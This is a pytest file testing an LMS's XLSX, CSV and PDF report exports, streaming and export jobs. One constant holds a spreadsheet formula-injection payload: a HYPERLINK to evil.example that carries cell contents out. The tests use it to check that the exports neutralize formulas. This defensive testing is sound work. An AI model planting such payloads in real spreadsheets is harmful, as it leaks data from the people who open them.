"""Report exports (lms.reports.exports, report_pdf, profile_pdf, export_jobs): the XLSX as HR
opens it, the CSV, the PDF, formula neutralization, streaming, and the export job."""
import csv
import io
from datetime import date, datetime, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from report_support import sat, seeded  # noqa: F401 — the data fixtures
from sqlalchemy import select

from lms import jobs
from lms.auth.services import find_user
from lms.catalogue.models import Module
from lms.extensions import db
from lms.messages import Message, vietnamese
from lms.reports import export_jobs, exports, report_pdf, tables
from lms.reports.exports import write_report
from lms.reports.facts import build_context
from lms.reports.filters import parse_filters
from lms.reports.profile import Profile, competency_profile
from lms.reports.profile_pdf import profile_pdf
from lms.scope import Scope
from lms.tabular import neutralize_formula, write_csv, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


# Every test reads the data seeded once for the module, in an app context of its own.
pytestmark = pytest.mark.usefixtures("sat")


def context_of(report, **args):
    return build_context(Scope.city(), parse_filters(report, args))


def xlsx(tables_, **options):
    out = io.BytesIO()
    write_report(tables_, "xlsx", out, vietnamese, **options)
    return load_workbook(io.BytesIO(out.getvalue()))


def headers(table):
    return [Message(column.header, **(column.params or {})).translated(vietnamese) for column in table.columns]


def column_index(table, key):
    return [column.key for column in table.columns].index(key)


def test_units_xlsx_sheets_headers_formats_and_values():
    context = context_of("units", unit="LB")
    workbook = xlsx(tables.units_sheets(context))
    assert workbook.sheetnames == ["Cấp 1", "Cấp 2", "Cán bộ"]

    expected = tables.units_table(context, 1)
    sheet = workbook["Cấp 1"]
    header = [cell.value for cell in sheet[1]]
    assert header == headers(expected)
    assert header[:2] == ["Mã đơn vị", "Tên đơn vị"] and "Số cán bộ" in header and "Đạt IU01" in header
    assert sheet.freeze_panes == "A2" and all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width

    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(expected.rows) + 1  # and the total row
    for cells, row in zip(rows, expected.rows):
        assert [cells[0].value, cells[1].value] == [row["code"], row["name"]]
        for key in ("staff", "module:IU01", "basic", "certified"):
            assert cells[column_index(expected, key)].value == row[key]
        rate = cells[column_index(expected, "basic_rate")]
        assert rate.value == pytest.approx(float(row["basic_rate"])) if row["basic_rate"] is not None else rate.value is None
    bode = next(cells for cells in rows if cells[0].value == "LB-BODE")
    assert bode[column_index(expected, "module:IU01")].value == 2  # two of the three passed IU01
    assert bode[column_index(expected, "staff")].number_format == "#,##0"
    assert bode[column_index(expected, "basic_rate")].number_format == "0.0%"
    assert bode[column_index(expected, "mean_score")].number_format == "0.0"
    assert bode[column_index(expected, "mean_score")].value == pytest.approx(float(next(
        row for row in expected.rows if row["code"] == "LB-BODE")["mean_score"]))

    total = rows[-1]
    assert total[0].value == "Tổng cộng" and total[0].font.b
    assert total[column_index(expected, "staff")].value == expected.total["staff"]

    people = workbook["Cán bộ"]
    assert [cell.value for cell in people[1]][:4] == ["Mã đơn vị", "Tên đơn vị", "Mã cán bộ", "Họ và tên"]
    assert people.max_row - 1 == expected.total["staff"]  # one row per person counted


def test_gaps_xlsx_dates_and_sheet_name():
    context = context_of("gaps", unit="LB", sort="name")
    workbook = xlsx(tables.gaps_table(context, everything=True))
    sheet = workbook["Chưa đạt"]
    assert [cell.value for cell in sheet[1]] == headers(tables.gaps_table(context))
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == tables.gaps_table(context).page.total > 0
    deadlines = [row[0] for row in sheet.iter_rows(min_row=2, min_col=8, max_col=8) if row[0].value is not None]
    assert column_index(tables.gaps_table(context), "deadline") == 7
    assert deadlines and all(cell.number_format == "dd/mm/yyyy" and cell.is_date for cell in deadlines)


def test_csv_has_bom_first_table_only_and_percent_numbers():
    context = context_of("units", unit="LB")
    out = io.BytesIO()
    write_report(tables.units_sheets(context), "csv", out, vietnamese)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    expected = tables.units_table(context, 1)
    assert lines[0] == headers(expected)
    assert len(lines) == 1 + len(expected.rows)  # the page's level only, no total row
    bode = next(line for line in lines if line[0] == "LB-BODE")
    row = next(row for row in expected.rows if row["code"] == "LB-BODE")
    assert bode[column_index(expected, "basic_rate")] == f"{float(row['basic_rate']) * 100:.1f}"
    assert bode[column_index(expected, "staff")] == str(row["staff"])


def test_csv_dates_are_day_first():
    module = db.session.execute(select(Module).where(Module.code == "IU01")).scalar_one()
    table = tables.ReportTable("T", [tables.Column("on", "Ngày", "date"), tables.Column("module", "Mô-đun", "text")],
                               [{"on": datetime(2017, 3, 31, 18, 0, tzinfo=timezone.utc), "module": module.code}])
    out = io.BytesIO()
    write_report(table, "csv", out, vietnamese)
    assert out.getvalue().decode("utf-8-sig").splitlines()[1] == "01/04/2017,IU01"  # 18:00 UTC is the next day in Hanoi


def test_formula_in_a_staff_name_is_neutralized_in_csv_and_xlsx():
    learner = find_user("learner").staff
    name, learner.full_name = learner.full_name, EVIL
    db.session.commit()
    try:
        check_neutralized()
    finally:
        learner.full_name = name
        db.session.commit()


def check_neutralized():
    context = context_of("units", unit="LB")
    people = xlsx(tables.units_sheets(context))["Cán bộ"]
    names = [cell for (cell,) in people.iter_rows(min_row=2, min_col=4, max_col=4)]
    evil = [cell for cell in names if EVIL in str(cell.value)]
    assert len(evil) == 1 and evil[0].value == "'" + EVIL and evil[0].data_type == "s"

    out = io.BytesIO()
    write_report(tables.gaps_table(context_of("gaps", unit="LB"), everything=True), "csv", out, vietnamese)
    fields = [field for line in csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))) for field in line]
    assert "'" + EVIL in fields and EVIL not in fields

    # The staff-list writers of lms.tabular, which had the hole.
    listed = load_workbook(io.BytesIO(write_xlsx(["Họ và tên"], [[EVIL], ["+84 912"], ["Nguyễn Văn A"]])))
    assert [row[0] for row in listed.active.iter_rows(min_row=2, values_only=True)] == ["'" + EVIL, "'+84 912", "Nguyễn Văn A"]
    assert write_csv(["Họ và tên"], [["@SUM(A1)"]]).decode("utf-8-sig").splitlines()[1] == "'@SUM(A1)"
    assert [neutralize_formula(value) for value in ("-1", "\tx", "\rx", "＝1", 5, None, "")] == ["'-1", "'\tx", "'\rx", "'＝1", 5, None, ""]


class OnlyOnce:
    """Rows that may be read once, one at a time: len() or a second pass fails the test."""

    def __init__(self, rows):
        self.rows, self.read, self.yielded = rows, False, 0

    def __iter__(self):
        assert not self.read, "rows read twice"
        self.read = True
        for row in self.rows:
            self.yielded += 1
            yield row

    def __len__(self):
        raise AssertionError("rows counted: the export must stream")


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_rows_are_streamed_once(app, fmt, monkeypatch):
    made = []
    original = exports.Workbook
    monkeypatch.setattr(exports, "Workbook", lambda **options: made.append(options) or original(**options))
    columns = [tables.Column("full_name", "Họ và tên", "text"), tables.Column("score", "Điểm", "score")]
    rows = OnlyOnce({"full_name": f"Cán bộ {number}", "score": number / 10} for number in range(1500))
    out = io.BytesIO()
    write_report(tables.ReportTable("Từng cán bộ", columns, rows, "Cán bộ"), fmt, out, vietnamese)
    assert rows.read
    if fmt == "xlsx":
        assert made == [{"write_only": True}]
        assert load_workbook(io.BytesIO(out.getvalue()))["Cán bộ"].max_row == 1501


def pdf_text(data):
    reader = PdfReader(io.BytesIO(data))
    return reader, "".join(page.extract_text() for page in reader.pages)


def pdf_fonts(reader):
    return {str(font["/BaseFont"]) for page in reader.pages for font in page["/Resources"]["/Font"].values()}


def test_units_pdf_title_filters_charts_and_font():
    context = context_of("units", unit="LB", period="2030")
    out = io.BytesIO()
    export_jobs.write_export(context, "units", "pdf", out, vietnamese)
    data = out.getvalue()
    assert data.startswith(b"%PDF")
    reader, text = pdf_text(data)
    assert "Năng lực CNTT theo đơn vị" in text and "Đơn vị: Quận Long Biên · Kỳ: 2030" in text
    assert "Tỉ lệ đạt chuẩn cơ bản theo đơn vị" in text and "Tỉ lệ cán bộ đạt từng mô-đun theo đơn vị" in text
    assert "Phường Bồ Đề" in text and "Tổng cộng" in text
    box = reader.pages[0].mediabox
    assert box.width > box.height  # landscape: some thirty columns
    fonts = pdf_fonts(reader)
    assert fonts and all("DejaVuSerif" in font for font in fonts)


@pytest.mark.parametrize("report,chart", [("modules", "Tỉ lệ đạt theo mô-đun"), ("periods", "Lượt thi và lượt đạt theo kỳ"),
                                          ("titles", "Tỉ lệ đạt chuẩn cơ bản theo chức danh")])
def test_each_report_pdf_has_its_chart(report, chart):
    out = io.BytesIO()
    export_jobs.write_export(context_of(report, unit="LB"), report, "pdf", out, vietnamese)
    assert chart in pdf_text(out.getvalue())[1]


def test_gaps_pdf_is_cut_with_a_line_pointing_to_the_xlsx(monkeypatch):
    monkeypatch.setattr(report_pdf, "PDF_ROW_LIMIT", 5)
    out = io.BytesIO()
    export_jobs.write_export(context_of("gaps", unit="LB"), "gaps", "pdf", out, vietnamese)
    text = pdf_text(out.getvalue())[1]
    assert "Chỉ in 5 dòng đầu; danh sách đầy đủ có trong tệp XLSX." in text


def test_profile_pdf_of_a_real_profile_is_one_page():
    learner = find_user("learner").staff
    profile = competency_profile(Scope.city(), learner.id)
    assert profile.certificates and len(profile.modules) == 15
    reader, text = pdf_text(profile_pdf(profile, vietnamese))
    assert len(reader.pages) == 1
    for expected in (learner.full_name, learner.unit.name, "IU01", "IU15", profile.certificates[0].serial,
                     "Người lập biểu", "Thủ trưởng đơn vị", "Chuẩn kỹ năng cơ bản: Đạt"):
        assert expected in text
    assert all("DejaVuSerif" in font for font in pdf_fonts(reader))


def test_profile_pdf_usual_case_fits_one_page():
    staff = SimpleNamespace(full_name="Nguyễn Thị Phương Thảo", birth_date=date(1988, 2, 29),
                            unit=SimpleNamespace(name="Phòng Tài chính – Kế hoạch huyện Gia Lâm"),
                            title=SimpleNamespace(name="Chuyên viên Tài chính – Kế hoạch"))
    profile = Profile(staff, 2017, datetime(2018, 1, 1, tzinfo=timezone.utc))
    profile.modules = [{"code": f"IU{number:02d}", "name": f"Mô-đun kỹ năng số {number} – ứng dụng trong công việc",
                        "level": "basic" if number <= 6 else "advanced", "required": number <= 9,
                        "score": 7.5 if number <= 8 else None,
                        "achieved_at": datetime(2017, 5, number, tzinfo=timezone.utc) if number <= 8 else None}
                       for number in range(1, 16)]
    profile.certificates = [SimpleNamespace(serial=f"HN-2017-{number:05d}", kind_label="Chứng chỉ ứng dụng CNTT cơ bản",
                                            issue_date=date(2017, 6, number), status_label="Còn hiệu lực") for number in range(1, 4)]
    profile.courses = [{"module_code": f"IU{number:02d}", "title": f"Khóa học mô-đun IU{number:02d}", "done": number, "total": 9}
                       for number in range(1, 8)]
    reader, text = pdf_text(profile_pdf(profile, vietnamese, today=date(2018, 1, 15)))
    assert len(reader.pages) == 1
    assert "Năm đánh giá: 2017" in text and "Hà Nội, ngày 15 tháng 01 năm 2018" in text and "29/02/1988" in text


def test_needs_job_for_the_big_exports(monkeypatch):
    context = context_of("units", unit="LB")
    assert not export_jobs.needs_job(context, "units", "xlsx")
    monkeypatch.setattr(export_jobs, "JOB_ROWS", 3)
    assert export_jobs.needs_job(context, "units", "xlsx")  # its per-person sheet
    assert not export_jobs.needs_job(context, "units", "csv") and not export_jobs.needs_job(context, "units", "pdf")
    gaps = context_of("gaps", unit="LB")
    assert export_jobs.needs_job(gaps, "gaps", "csv") and export_jobs.needs_job(gaps, "gaps", "pdf", row_count=4)
    assert not export_jobs.needs_job(gaps, "gaps", "xlsx", row_count=3)
    assert not export_jobs.needs_job(context_of("modules"), "modules", "xlsx")


def test_export_job_writes_the_file_reports_progress_and_reruns(monkeypatch):
    monkeypatch.setattr(export_jobs, "PROGRESS_STEP", 10)
    advances = []
    original = jobs.Progress.advance
    monkeypatch.setattr(jobs.Progress, "advance", lambda self, count=1: advances.append(count) or original(self, count))
    filters = parse_filters("units", {"unit": "LB", "period": "2030"})
    params = export_jobs.export_job_params("units", filters, "xlsx", Scope.city(), "vi", find_user("hr").id)
    job = jobs.submit("reports.export", params, find_user("hr"))
    job = db.session.get(jobs.Job, job.id)
    assert job.state == jobs.DONE, job.error
    path, filename = job.result["path"], job.result["filename"]
    assert filename == "bao-cao-don-vi-LB-2030.xlsx"
    assert Path(path).parent == export_jobs.export_root()
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Cấp 1", "Cấp 2", "Cán bộ"]
    written = sum(sheet.max_row - 1 for sheet in workbook.worksheets) - 2  # less the two total rows
    assert job.done == job.total == written
    assert advances and all(count == 10 for count in advances[:-1]) and sum(advances) == written

    advances.clear()
    again = jobs.run(job.id)
    assert again.state == jobs.DONE and again.result == {"path": path, "filename": filename}
    assert db.session.get(jobs.Job, job.id).done == written and sum(advances) == written
    assert sorted(item.name for item in export_jobs.export_root().iterdir() if item.name.startswith(params["token"])) == [
        f"{params['token']}.xlsx"]




def test_export_job_from_the_pages_params_names_its_file_from_the_job(app):
    from lms.certificates.jobs import scope_params

    params = {"report": "modules", "args": {"level": "basic", "page": "2"}, "fmt": "csv", "scope": scope_params(Scope.city()),
              "lang": "fr", "actor_id": None}  # as the page submits it: no token, a language the app does not have
    job = db.session.get(jobs.Job, jobs.submit("reports.export", params).id)
    assert job.state == jobs.DONE, job.error
    assert job.result["filename"] == "bao-cao-mo-dun-HN.csv"
    lines = Path(job.result["path"]).read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("Mô-đun,Tên mô-đun,Trình độ") and len(lines) == 1 + 6  # Vietnamese; the basic modules
    assert jobs.run(job.id).result["path"] == job.result["path"]  # a re-run rewrites the same file
